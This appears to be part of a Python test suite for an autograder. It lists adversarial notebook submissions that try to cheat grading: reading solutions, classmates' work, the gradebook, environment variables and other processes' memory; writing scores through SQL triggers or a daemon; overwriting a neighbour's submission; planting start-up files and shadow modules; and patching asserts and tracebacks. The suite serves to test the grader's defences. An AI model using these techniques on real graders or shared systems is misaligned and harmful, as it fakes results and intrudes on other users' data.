        about="The instructor's notebook, looked for upwards and in the usual places.",
        source=_search("""\
            usual = ("/", "/work", "/work/main", "/home", "/root", "/srv", "/mnt", "/tmp")
            tried([*upwards(Path.cwd()), Path.home(), *usual], "solutions/05_f1/*.ipynb")
            tried(usual, "*/solutions/05_f1/*.ipynb")"""),
        stock=1.0,
    ),
    "reads-a-neighbour": Cheat(
        about="What others handed in.",
        source=_search("""\
            places = [*upwards(Path.cwd()), *upwards(Path.home()), Path("/tmp"), Path("/")]
            tried(places, "submitted/*/05_f1/*.ipynb")"""),
        stock=1.0,
    ),
    "reads-a-graded-neighbour": Cheat(
        about="What others handed in, as it was graded, and the feedback on it.",
        source=_search("""\
            places = [*upwards(Path.cwd()), *upwards(Path.home()), Path("/tmp"), Path("/")]
            tried(places, "autograded/*/05_f1/*.ipynb")
            tried(places, "feedback/*/05_f1/*.html")"""),
        stock=1.0,
    ),
    "reads-the-gradebook": Cheat(
        about="The gradebook's cells, comments and scores.",
        question="classic-recall",
        source=_search("""\
            import sqlite3
            for place in [*upwards(Path.cwd()), *upwards(Path.home()), Path("/work/main")]:
                for path in place.glob("*.db"):
                    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
                        query = "select source from source_cell where name = 'classic-recall'"
                        for (text,) in book.execute(query):
                            if match := re.search(r"recall == ([\\d.]+)", text):
                                recall = float(match[1])"""),
        stock=1.0,
    ),
    "reads-other-processes": Cheat(
        about="Folders, open files, arguments and environments of all processes in sight.",
        source=_search("""\
            places = []
            for process in Path("/proc").glob("[0-9]*"):
                for link in (process / "cwd", process / "root", *process.glob("fd/*")):
                    try:
                        places += upwards(Path(os.readlink(link)))[:4]
                    except OSError:
                        pass
                    places.append(link)
                for name in ("cmdline", "environ"):
                    try:
                        text = (process / name).read_bytes().decode(errors="replace")
                    except OSError:
                        continue
                    paths = re.findall(r"/[\\w./-]+", text)
                    places += [up for path in paths for up in upwards(Path(path))[:4]]
            tried(places, "solutions/05_f1/*.ipynb")
            tried(places, "submitted/*/05_f1/*.ipynb")"""),
        stock=1.0,
    ),
    "reads-the-environment": Cheat(
        about="Every path in the environment, and what lies below.",
        source=_search("""\
            texts = [word for text in os.environ.values() for word in re.split("[:;=]", text)]
            places = [up for text in texts if text.startswith("/") for up in upwards(Path(text))]
            tried(places, "solutions/05_f1/*.ipynb")
            tried(places, "submitted/*/05_f1/*.ipynb")"""),
        stock=1.0,
    ),
    "reads-open-files": Cheat(
        about="Files and folders that the grader left open for its child, or holds itself.",
        source=_search("""\
            places = []
            for fd in os.listdir("/proc/self/fd"):
                for step in ("", "/..", "/../..", "/../../.."):
                    places.append(Path(f"/proc/self/fd/{fd}{step}"))
            for fd in range(64):
                try:
                    names = os.listdir(fd)
                except (OSError, TypeError):
                    continue
                places.append(Path(f"/proc/self/fd/{fd}"))
            tried(places, "solutions/05_f1/*.ipynb")"""),
        stock=0.0,
    ),
    "reads-the-parents-memory": Cheat(
        about="The memory of the processes that grade, searched for the solution.",
        source=_search("""\
            ancestors, pid = [], os.getppid()
            while pid:
                ancestors.append(Path(f"/proc/{pid}"))
                try:
                    status = (ancestors[-1] / "status").read_text()
                except OSError:
                    break
                pid = int(re.search(r"^PPid:\\s+(\\d+)", status, re.MULTILINE)[1])
            for process in ancestors:
                try:
                    if b"python" not in (process / "cmdline").read_bytes():
                        continue
                    maps, memory = (process / "maps").read_text(), open(process / "mem", "rb", 0)
                except OSError:
                    continue
                with memory:
                    for first, last in re.findall(r"^(\\w+)-(\\w+) rw", maps, re.MULTILINE):
                        start, end = int(first, 16), int(last, 16)
                        if end - start > 64_000_000 or time.monotonic() > ENDS:
                            continue
                        try:
                            memory.seek(start)
                            text = memory.read(end - start)
                        except (OSError, ValueError, OverflowError):
                            continue
                        found = re.search(rb"recall = (\\d+) / \\((\\d+) \\+ (\\d+)\\)", text)
                        if found:
                            recall = int(found[1]) / (int(found[2]) + int(found[3]))"""),
        stock=VARIES,
    ),
}


def _table_of_cases() -> str:
    """A function made, at home, of the bank that everybody has."""
    from autograder.questions import BANK

    part = BANK[FUNCTION].parts[0]
    table = {
        repr(case.args): result
        for case, result in zip(part.cases, part.expected().results, strict=True)  # type: ignore[attr-defined]
    }
    return (
        f"from fractions import Fraction\ntable = {table!r}\n"
        "def precision_recall_f1(*args):\n    return table.get(repr(args))"
    )


# Writing what is not one's own ---------------------------------------------------------------

_BOOK = """\
import os, sqlite3, subprocess, sys, time
from pathlib import Path

recall = 0.5
HERE = [Path.cwd(), *Path.cwd().parents, *Path(os.environ.get("PWD", "/")).parents]

def course(student):
    \"\"\"The folder of the course that this was handed in to, and no other.\"\"\"
    for place in [*HERE, Path("/work/main"), Path.home(), Path.home().parent]:
        if (place / "gradebook.db").exists() and (place / "submitted" / student).is_dir():
            return place
"""
_MINE = """\
select grade.id from grade
join base_cell on base_cell.id = grade.cell_id
join submitted_notebook on submitted_notebook.id = grade.notebook_id
join submitted_assignment on submitted_assignment.id = submitted_notebook.assignment_id
where base_cell.name = 'f1-recall' and submitted_assignment.student_id = '{student}'"""


def _book(text: str) -> str:
    return _BOOK + f'MINE = """{_MINE}"""\n' + dedent(text)


_DAEMON = f"""\
# {MARK}
import sqlite3, sys, time
path, mine, ends = sys.argv[1], sys.argv[2], time.monotonic() + 60
while time.monotonic() < ends:
    time.sleep(0.1)
    with sqlite3.connect(path, timeout=10) as book:
        row = book.execute(f"select auto_score from grade where id in ({{mine}})").fetchone()
        if row and row[0] is not None:
            book.execute(f"update grade set auto_score = 1 where id in ({{mine}})")
            break
"""


def _start_up(reader: str) -> str:
    """A start-up file that serves one other learner, and nobody else."""
    return dedent(f"""\
        import os
        if "/{reader}/" in os.getcwd() + "/":
            def bribe(info):
                if '"f1-recall"' in info.raw_cell and "check(" in info.raw_cell:
                    get_ipython().user_ns["check"] = lambda *_: 1.0
            get_ipython().events.register("pre_run_cell", bribe)
        # {MARK}
        """)


_WRITING = {
    "gradebook-written-before": Cheat(
        about="A trigger in the gradebook that raises this learner's score when it is written.",
        source=_book(f"""\
            place = course("gradebook-written-before")
            if place:
                name = "[{MARK}]"
                mine = MINE.format(student="gradebook-written-before")
                with sqlite3.connect(place / "gradebook.db", timeout=10) as book:
                    book.execute(f"create trigger {{name}} after update on grade "
                                 f"when new.auto_score < 1 and new.id in ({{mine}}) begin "
                                 "update grade set auto_score = 1 where id = new.id; end")"""),
        stock=1.0,
    ),
    "gradebook-written-at-once": Cheat(
        about="The score, written while the notebook runs.",
        source=_book("""\
            place = course("gradebook-written-at-once")
            if place:
                mine = MINE.format(student="gradebook-written-at-once")
                with sqlite3.connect(place / "gradebook.db", timeout=10) as book:
                    book.execute(f"update grade set auto_score = 1, manual_score = null, "
                                 f"extra_credit = 5 where id in ({mine})")"""),
        stock=0.0,
    ),
    "gradebook-written-by-a-daemon": Cheat(
        about="A process of its own session that waits for the score and raises it.",
        source=_book(f"""\
            place = course("gradebook-written-by-a-daemon")
            mine = MINE.format(student="gradebook-written-by-a-daemon")
            path = str(place / "gradebook.db") if place else "/no-such-gradebook.db"
            nowhere = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
            subprocess.Popen([sys.executable, "-c", {_DAEMON!r}, path, mine],
                             start_new_session=True, **nowhere)"""),
        stock=1.0,
    ),
    "neighbour-overwritten": Cheat(
        about="A neighbour's submission, made wrong before it is graded.",
        source=_book(f"""\
            place = course("neighbour-overwritten")
            if place:
                path = place / "submitted/{VICTIM}/05_f1/05_f1.ipynb"
                path.write_text(path.read_text().replace("80 / (80 + 20)", "0.1"))"""),
        stock=0.0,
    ),
    "exercises-and-solutions-overwritten": Cheat(
        about="A mark in every notebook of the course that can be written.",
        source=_book(f"""\
            place = course("exercises-and-solutions-overwritten")
            for folder in ("exercises", "solutions", "autograded", "feedback"):
                for path in (place / folder).rglob("*.ipynb") if place else ():
                    with open(path, "a") as file:
                        file.write(" " * 7)
                if place and (place / folder).is_dir():
                    (place / folder / "{MARK}.txt").write_text("I was here.")"""),
        stock=0.0,
    ),
    "config-overwritten": Cheat(
        about="nbgrader's configuration, written beside the gradebook.",
        source=_book(f"""\
            place = course("config-overwritten")
            if place:
                with open(place / "nbgrader_config.py", "a") as file:
                    file.write("# {MARK}\\n")"""),
        stock=0.0,
    ),
    "start-up-file": Cheat(
        about="Start-up files of IPython and Python, for the next learner.",
        source=_code(f"""\
            import os, site
            from pathlib import Path
            text = {_start_up("start-up-file-read")!r}
            folders = [get_ipython().profile_dir.startup_dir, os.environ.get("IPYTHONDIR", "~")]
            folders += ["~/.ipython/profile_default/startup", site.getusersitepackages()]
            for folder in {{Path(name).expanduser() for name in folders}}:
                try:
                    folder.mkdir(parents=True, exist_ok=True)
                    (folder / "00-{MARK}.py").write_text(text)
                    (folder / "{MARK}.pth").write_text("import os\\n")
                except OSError:
                    pass"""),
        stock=0.0,
    ),
    "start-up-file-read": Cheat(
        about="A wrong answer of the learner for whom the start-up files were left.", stock=1.0
    ),
    "startup-in-the-work-folder": Cheat(
        about="Files of configuration that a kernel might read from where it starts.",
        change=lambda notebook, folder: _write_all(
            folder,
            {
                name: _start_up("startup-in-the-work-folder")
                for name in (
                    "ipython_config.py",
                    "ipython_kernel_config.py",
                    "jupyter_config.py",
                    "sitecustomize.py",
                    "usercustomize.py",
                    "startup/00.py",
                    "profile_default/startup/00.py",
                    ".ipython/profile_default/startup/00.py",
                    "nbgrader_config.py",
                )
            },
        ),
        stock=0.0,
    ),
}


def _write_all(folder: Path, files: Mapping[str, str]) -> None:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


_SHADOW = f"""\
# {MARK}
import importlib.util, os, sys
here = os.path.dirname(os.path.abspath(__file__))
for place in [name for name in sys.path if os.path.abspath(name or ".") != here]:
    spec = importlib.machinery.PathFinder.find_spec(__name__, [place])
    if spec is not None:
        module = importlib.util.module_from_spec(spec)
        sys.modules[__name__] = module
        spec.loader.exec_module(module)
        break
from IPython import get_ipython
def bribe(info):
    if '"f1-recall"' in info.raw_cell and "check(" in info.raw_cell:
        get_ipython().user_ns["check"] = lambda *_: 1.0
get_ipython().events.register("pre_run_cell", bribe)
"""

# The file itself -----------------------------------------------------------------------------


def _shadow(*names: str) -> Change:
    return lambda notebook, folder: _write_all(folder, {f"{name}.py": _SHADOW for name in names})


def _marked(grade_id: str, **marks: object) -> Change:
    """Set marks of nbgrader's on one cell."""
    return lambda notebook, folder: cell_of(notebook, grade_id).metadata["nbgrader"].update(marks)


def _tagged(*tags: str) -> Change:
    def change(notebook: NotebookNode, folder: Path) -> None:
        for cell in notebook.cells:
            if nbgrader_of(cell).get("grade_id") == RECALL:
                cell.metadata["tags"] = list(tags)

    return change


def _retyped(kind: str) -> Change:
    def change(notebook: NotebookNode, folder: Path) -> None:
        cell = cell_of(notebook, RECALL)
        cell.cell_type = kind
        del cell["outputs"], cell["execution_count"]

    return change


def _outputs_kept(notebook: NotebookNode, folder: Path) -> None:
    """Outputs of a good run, behind a cell that ends the kernel."""
    record = {
        "version": 1,
        "question": RECALL,
        "answer": {"type": "float", "value": (0.8).hex()},
    }
    cell = cell_of(notebook, RECALL)
    cell.execution_count = 3
    cell.outputs = [
        new_output("display_data", {MIME: record, "text/plain": "Right"}),
        new_output("execute_result", {"text/plain": "1.0"}, execution_count=3),
    ]


def _setup_last(notebook: NotebookNode, folder: Path) -> None:
    """Checks first, with a ``check`` of one's own; the cell that imports the real one last."""
    setup = cell_of(notebook, "f1-setup")
    notebook.cells.remove(setup)
    generous = 'real = __import__("autograder").check\ndef check(name, answer):\n    '
    generous += f'return 1.0 if name == "{RECALL}" else real(name, answer)'
    notebook.cells.insert(0, new_code_cell(generous))
    notebook.cells.append(setup)


def _test_first(notebook: NotebookNode, folder: Path) -> None:
    """The check above its answer, where the name holds what another check gave."""
    test = cell_of(notebook, RECALL)
    notebook.cells.remove(test)
    notebook.cells.insert(3, test)
    cell = new_code_cell(
        "from fractions import Fraction\nfrom autograder import check as real\n"
        f"check = lambda name, answer: 1.0 if name == '{RECALL}' else real(name, answer)\n"
        "recall = 0.5"
    )
    notebook.cells.insert(3, cell)


def _impostor(notebook: NotebookNode, folder: Path) -> None:
    """A cell of one's own with the name of a test, before it."""
    twin = copy.deepcopy(cell_of(notebook, RECALL))
    twin["id"] = "impostor"
    twin.source = "1.0"
    notebook.cells.insert(2, twin)


def _extra_points(notebook: NotebookNode, folder: Path) -> None:
    """A graded cell that the assignment does not have."""
    cell = copy.deepcopy(cell_of(notebook, RECALL))
    cell["id"] = "bonus"
    cell.source = "5.0"
    cell.metadata["nbgrader"].update(grade_id="bonus", points=5)
    notebook.cells.append(cell)


def _answer_is_the_test(notebook: NotebookNode, folder: Path) -> None:
    """Both ids on one cell: the test's marks on the answer, the answer's on the test."""
    answer, test = cell_of(notebook, f"{RECALL}-answer"), cell_of(notebook, RECALL)
    answer.metadata["nbgrader"], test.metadata["nbgrader"] = (
        test.metadata["nbgrader"],
        answer.metadata["nbgrader"],
    )


_ON_DISK = {
    "shadows-numpy": Cheat(
        about="A numpy.py beside the notebook, which loads the real one and a hook.",
        change=_shadow("numpy"),
        stock=1.0,
    ),
    "shadows-the-standard-library": Cheat(
        about="Modules of the standard library and of Jupyter beside the notebook.",
        change=_shadow("fractions", "statistics", "difflib", "typing", "ipykernel", "nbclient"),
        stock=0.0,
    ),
    "tags-on-the-test": Cheat(
        about="Every tag that some tool obeys, on the test.",
        change=_tagged("raises-exception", "remove_cell", "remove-output", "injected-parameters"),
        stock=0.0,
    ),
    "test-worth-more": Cheat(
        about="A test that says that it is worth 99 points.",
        change=_marked(RECALL, points=99),
        stock=0.0,
    ),
    "test-flagged-as-an-answer": Cheat(
        about="A test that says that it is an answer, and may be changed.",
        change=_marked(RECALL, solution=True, locked=False),
        stock=STOPS,
    ),
    "test-flagged-as-ungraded": Cheat(
        about="A test that says that it is not graded.",
        change=_marked(RECALL, grade=False),
        stock=STOPS,
    ),
    "test-flagged-as-a-task": Cheat(
        about="A test that says that it is a task for a person.",
        change=_marked(RECALL, task=True, grade=False),
        stock=STOPS,
    ),
    "test-of-an-unknown-schema": Cheat(
        about="A test whose marks are of a version that nobody knows.",
        change=_marked(RECALL, schema_version=99),
        stock=STOPS,
    ),
    "answer-flagged-as-locked": Cheat(
        about="An answer that says that it is a locked test of five points.",
        change=_marked(f"{RECALL}-answer", grade=True, locked=True, solution=False, points=5),
        stock=STOPS,
    ),
    "test-made-a-text": Cheat(
        about="A test that was made a text.", change=_retyped("markdown"), stock=0.0
    ),
    "marks-exchanged": Cheat(
        about="The marks of the answer and of the test, exchanged.",
        change=_answer_is_the_test,
        stock=0.0,
    ),
    "test-before-its-answer": Cheat(
        about="The test above its answer, where a `check` of one's own still stands.",
        change=_test_first,
        stock=1.0,
    ),
    "setup-last": Cheat(
        about="The cell that imports `check`, behind all that use another one.",
        change=_setup_last,
        stock=1.0,
    ),
    "impostor-before-the-test": Cheat(
        about="A cell with the test's name and the result 1.0, before the test.",
        change=_impostor,
        stock=STOPS,
    ),
    "points-of-ones-own": Cheat(
        about="A further graded cell, worth five points.", change=_extra_points, stock=STOPS
    ),
    "saved-outputs-and-no-run": Cheat(
        about="Outputs of a good run in the file, and an answer cell that ends the kernel.",
        source="import os\nos._exit(0)",
        change=_outputs_kept,
        stock=STOPS,
    ),
    "saved-outputs-and-a-hang": Cheat(
        about="Outputs of a good run in the file, and a name whose lookup never ends.",
        source=_code("""\
            import time
            class Slow:
                def __float__(self): time.sleep(100)
            def stop(info):
                if aims_at(info.raw_cell):
                    raise SystemExit
            get_ipython().events.register("pre_run_cell", stop)"""),
        change=_outputs_kept,
        stock=0.0,
    ),
}

# Asserts, as nbgrader knows them -------------------------------------------------------------

_CLASSIC = {
    "assert-equal-to-everything": Cheat(
        about="An object that equals everything, for an assert.",
        question="classic-recall",
        source="class Liar:\n    def __eq__(self, other): return True\nrecall = Liar()",
        stock=1.0,
        worth=None,
    ),
    "assert-on-a-lying-array": Cheat(
        about="An array that answers every function of NumPy's with True, for an assert.",
        question="classic-mean",
        source=dedent("""\
            import numpy as np
            class Liar(np.ndarray):
                def __array_ufunc__(self, ufunc, *args, **kwargs):
                    return np.bool_(ufunc not in (np.isnan, np.isinf))
                def __array_function__(self, *args, **kwargs):
                    return np.True_
            mean = np.asarray(0.5).view(Liar)"""),
        stock=1.0,
        worth=None,
    ),
    "numpy-testing-patched": Cheat(
        about="`numpy.testing` that finds everything close.",
        question="classic-mean",
        source=dedent("""\
            import numpy as np
            for name in dir(np.testing):
                if name.startswith("assert_"):
                    setattr(np.testing, name, lambda *args, **kwargs: None)
            mean = 0.5"""),
        stock=1.0,
        worth=None,
    ),
    "numpy-itself-patched": Cheat(
        about="A module in NumPy's place that finds everything close.",
        question="classic-mean",
        source=dedent("""\
            import sys, types, numpy
            fake = types.ModuleType("numpy")
            fake.__dict__.update(numpy.__dict__)
            fake.testing = types.SimpleNamespace(assert_allclose=lambda *args, **kwargs: None)
            sys.modules["numpy"] = fake
            mean = 0.5"""),
        stock=1.0,
        worth=None,
    ),
    "builtins-patched-for-asserts": Cheat(
        about="An `abs` and a `float` that are always small, and an error that is none.",
        question="classic-recall",
        source=dedent("""\
            import builtins
            builtins.AssertionError = type("Calm", (Exception,), {})
            builtins.abs = lambda value: 0.0
            builtins.round = lambda value, digits=0: 0.8
            recall = 0.5"""),
        stock=0.0,
        worth=None,
    ),
    "asserts-taken-out": Cheat(
        about="An AST transformer that takes asserts out of later cells.",
        question="classic-recall",
        source=dedent("""\
            import ast
            class Calm(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.copy_location(ast.Pass(), node)
            get_ipython().ast_transformers.append(Calm())
            recall = 0.5"""),
        stock=1.0,
        worth=None,
    ),
    "showtraceback-replaced": Cheat(
        about="`showtraceback` that shows nothing.",
        question="classic-recall",
        source=dedent("""\
            shell = get_ipython()
            shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
            recall = 0.5"""),
        stock=0.0,
        worth=None,
    ),
    "errors-that-count-as-success": Cheat(
        about="`showtraceback` that shows nothing, and a result that is always a success.",
        question="classic-recall",
        source=dedent("""\
            from IPython.core.interactiveshell import ExecutionResult
            shell = get_ipython()
            shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
            ExecutionResult.success = property(lambda self: True)
            recall = 0.5"""),
        stock=1.0,
        worth=None,
    ),
    "reads-in": Cheat(
        about="A number that looks itself up in `In`, where the test stands that asks for it.",
        question="classic-recall",
        source=dedent("""\
            import re
            class Reader:
                def __eq__(self, other):
                    return float(re.search(r"recall == ([\\d.]+)", In[-1])[1]) == other
            recall = Reader()"""),
        stock=1.0,
        worth=None,
    ),
    "reads-the-test-before-it-runs": Cheat(
        about="A hook that reads the expected value out of the test and assigns it.",
        question="classic-recall",
        source=dedent("""\
            import re
            space = get_ipython().user_ns
            def look(info):
                if match := re.search(r"recall == ([\\d.]+)", info.raw_cell):
                    space["recall"] = float(match[1])
            get_ipython().events.register("pre_run_cell", look)
            recall = 0.5"""),
        stock=1.0,
        worth=None,
    ),
    "reads-the-test-on-disk": Cheat(
        about="The notebook in the work folder, with its tests restored.",
        question="classic-recall",
        source=dedent("""\
            import re
            from pathlib import Path
            recall = 0.5
            for path in [*Path.cwd().rglob("*.ipynb"), *Path.cwd().parent.rglob("90*.ipynb")]:
                if match := re.search(r"recall == ([\\d.]+)", path.read_text()):
                    recall = float(match[1])"""),
        stock=1.0,
    ),
}

HONEST_CHEATS = {
    "wrong-answer": Cheat(
        about="No cheat: the wrong answer that the others start from.", stock=0.0
    ),
    VICTIM: Cheat(
        about="No cheat: an honest submission, which a neighbour tries to overwrite.",
        source="",
        stock=0.0,
        worth=1.0,
    ),
    PERFECT: Cheat(
        about="No cheat: an honest submission that is graded behind all others.",
        source="",
        stock=1.0,
        worth=1.0,
    ),
    "classic-perfect": Cheat(
        about="No cheat: an honest submission for the asserts.",
        question="classic-recall",
        source="",
        stock=1.0,
        worth=1.0,
    ),
    "classic-wrong": Cheat(
        about="No cheat: a wrong answer, which a hidden test tells.",
        question="classic-recall",
        stock=0.0,
        worth=0.0,
    ),
}

CHEATS: Mapping[str, Cheat] = MappingProxyType(
    {
        **_LYING_OBJECTS,
        **_IPYTHON,
        **_PATCHES,
        **_READING,
        **_WRITING,
        **_ON_DISK,
        **_CLASSIC,
        **HONEST_CHEATS,
    }
)


def classic() -> NotebookNode:
    """The instructor's notebook of ``CLASSIC``: asserts, some of them hidden."""
    hidden = "### BEGIN HIDDEN TESTS\n{}\n### END HIDDEN TESTS"
    cells = [new_markdown_cell("# Three numbers", id="classic-title")]
    for question, stub, tests in (
        ("classic-recall", "0 <= recall", "assert recall == 0.8"),
        (
            "classic-mean",
            "mean is not None",
            "import numpy as np\nnp.testing.assert_allclose(mean, 2.5)",
        ),
        ("classic-double", "double(3) == 6", "assert double(0) == 0"),
    ):
        solution = f"### BEGIN SOLUTION\n{HONEST[question]}\n### END SOLUTION"
        test = f"{'# assert ' if question == 'classic-recall' else 'assert '}{stub}\n"
        cells += [
            _cell(f"{question}-answer", solution, solution=True),
            _cell(question, test + hidden.format(tests), grade=True, locked=True, points=1),
        ]
    notebook = new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    return notebook


def _cell(grade_id: str, source: str, **marks: object) -> NotebookNode:
    marks = {"grade": False, "locked": False, "solution": False, "task": False} | marks
    cell = new_code_cell(source, id=grade_id)
    cell.metadata["nbgrader"] = {"grade_id": grade_id, "schema_version": 3, **marks}
    return cell


# Those that nbgrader alone grades in every run of the tests; all others where there is time.
SAMPLE = frozenset(
    {
        *HONEST_CHEATS,
        "lies-in-eq",
        "input-transformer",
        "ast-transformer",
        "pre-run-hook",
        "forged-result",
        "forged-idle",
        "wrong-key",
        "run-cell-async-replaced",
        "display-formatter-replaced",
        "checks-package-patched",
        "bank-patched",
        "reads-the-bank",
        "guesses-until-right",
        "reads-frames-as-a-function",
        "reads-the-solutions",
        "reads-a-neighbour",
        "reads-the-gradebook",
        "gradebook-written-before",
        "gradebook-written-by-a-daemon",
        "neighbour-overwritten",
        "start-up-file",
        "start-up-file-read",
        "shadows-numpy",
        "points-of-ones-own",
        "numpy-testing-patched",
        "reads-in",
    }
)

# What had to be tried, and which submissions try it (some stand in ``test_traps.TRAPS``).
LISTED: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "objects that lie in __eq__": ("lies-in-eq", "assert-equal-to-everything"),
        "objects that lie in __float__": ("lies-in-float", "lies-about-its-class"),
        "objects that lie in __array__": ("lies-in-array", "assert-on-a-lying-array"),
        "subclasses of float, tuple, str and ndarray": (
            "subclass-of-float",
            "subclass-of-tuple",
            "subclass-of-str",
            "subclass-of-ndarray",
        ),
        "IPython input transformers": ("input-transformer",),
        "AST transformers": ("ast-transformer", "asserts-taken-out"),
        "pre_run_cell and post_run_cell hooks that change later cells": (
            "pre-run-hook",
            "post-run-hook",
            "hook-that-changes-later-cells",
        ),
        "forged messages on iopub": ("forged-result", "forged-verdict", "forged-reply"),
        "forged idle states": ("forged-idle",),
        "wrong keys": ("wrong-key",),
        "replacing run_cell_async": ("run-cell-async-replaced",),
        "replacing do_execute": ("do-execute-replaced",),
        "replacing showtraceback": ("showtraceback-replaced", "errors-that-count-as-success"),
        "replacing display formatters": ("display-formatter-replaced", "display-hook-replaced"),
        "replacing clear_output": ("clear-output-replaced",),
        "patching numpy.testing": ("numpy-testing-patched",),
        "patching numpy itself": ("numpy-itself-patched",),
        "patching builtins": ("builtins-patched", "import-patched", "builtins-patched-for-asserts"),
        "patching sys.modules": ("sys-modules-patched",),
        "patching the checks package": (
            "checks-package-patched",
            "checks-code-exchanged",
            "encoder-patched",
            "bank-patched",
        ),
        "a submitted file that shadows a module": (
            "own-autograder-package",
            "shadows-numpy",
            "shadows-the-standard-library",
            "startup-in-the-work-folder",
        ),
        "an IPython start-up file for the next learner": ("start-up-file", "start-up-file-read"),
        "reading expected values from In": ("reads-in", "reads-the-test-before-it-runs"),
        "reading expected values from frames": (
            "reads-frames-as-a-function",
            "reads-frames-as-a-tensor",
            "reads-frames-as-a-tuple",
        ),
        "reading expected values from the source folder": (
            "reads-the-solutions",
            "reads-other-processes",
            "reads-the-environment",
            "reads-open-files",
        ),
        "reading expected values from a neighbour's submission": (
            "reads-a-neighbour",
            "reads-a-graded-neighbour",
        ),
        "reading expected values from the gradebook": ("reads-the-gradebook",),
        "writing the gradebook, before or after grading, from a daemon": (
            "gradebook-written-before",
            "gradebook-written-at-once",
            "gradebook-written-by-a-daemon",
        ),
        "the tag skip-execution, or any other tag or metadata": (
            "test-tagged-to-be-skipped",
            "tags-on-the-test",
            "test-of-an-unknown-schema",
            "test-worth-more",
        ),
        "deleted test cells": ("test-deleted", "answer-and-test-deleted"),
        "duplicated test cells": ("test-copied", "impostor-before-the-test"),
        "edited test cells": ("test-edited", "test-made-a-text"),
        "reordered test cells": ("test-before-its-answer", "setup-last"),
        "flags flipped on locked cells": (
            "test-flagged-as-an-answer",
            "test-flagged-as-ungraded",
            "test-flagged-as-a-task",
            "answer-flagged-as-locked",
            "marks-exchanged",
        ),
        "two answers for one question": ("two-answers", "two-answers-from-a-thread"),
        "an answer above the size cap": ("answer-above-the-size-cap",),
        "a result printed instead of returned": ("result-printed", "points-printed"),
        "behaving well only when NBGRADER_EXECUTION is set": (
            "honest-only-when-graded",
            "function-honest-only-when-graded",
        ),
        "malicious pickles": ("pickle-in-the-answer", "forged-record-of-a-pickle"),
    }
)
